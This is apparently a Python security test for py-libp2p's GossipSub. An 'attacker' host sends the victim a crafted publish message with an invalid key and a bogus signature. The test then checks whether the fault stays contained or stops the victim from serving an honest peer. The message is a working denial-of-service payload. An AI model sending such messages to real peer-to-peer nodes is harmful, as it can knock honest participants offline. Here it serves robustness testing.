"""A gossiped message whose key is none. In stock it is judged in a task that no guard of a stream contains."""

from libp2p.custom_types import TProtocol
from libp2p.pubsub.gossipsub import GossipSub
from libp2p.pubsub.pb import rpc_pb2
from libp2p.pubsub.pubsub import Pubsub
from libp2p.tools.anyio_service import background_trio_service
from libp2p.utils.varint import encode_varint_prefixed
from stage import connect, faults, make_host, perform, running, serves, until

MESH = TProtocol("/meshsub/1.1.0")
TOPIC = "offers"


async def attack(_guarded: bool) -> None:
    victim, attacker, honest = make_host(), make_host(), make_host()
    router = GossipSub([MESH], 6, 4, 12, heartbeat_interval=1)
    pubsub = Pubsub(victim, router, strict_signing=True)
    message = rpc_pb2.Message(
        from_id=b"\x12\x20" + bytes(32), data=b"", topicIDs=[TOPIC], seqno=b"1", signature=b"1", key=b"\xff\xff"
    )
    async with running(victim, attacker, honest), background_trio_service(pubsub), background_trio_service(router):
        await pubsub.wait_until_ready()
        await pubsub.subscribe(TOPIC)
        await connect(attacker, victim)
        stream = await attacker.new_stream(victim.get_id(), [MESH])
        await stream.write(encode_varint_prefixed(rpc_pb2.RPC(publish=[message]).SerializeToString()))
        await until(lambda: bool(faults))
        await serves(honest, victim)


perform(attack, "contained-gossip", "inline-gossip")
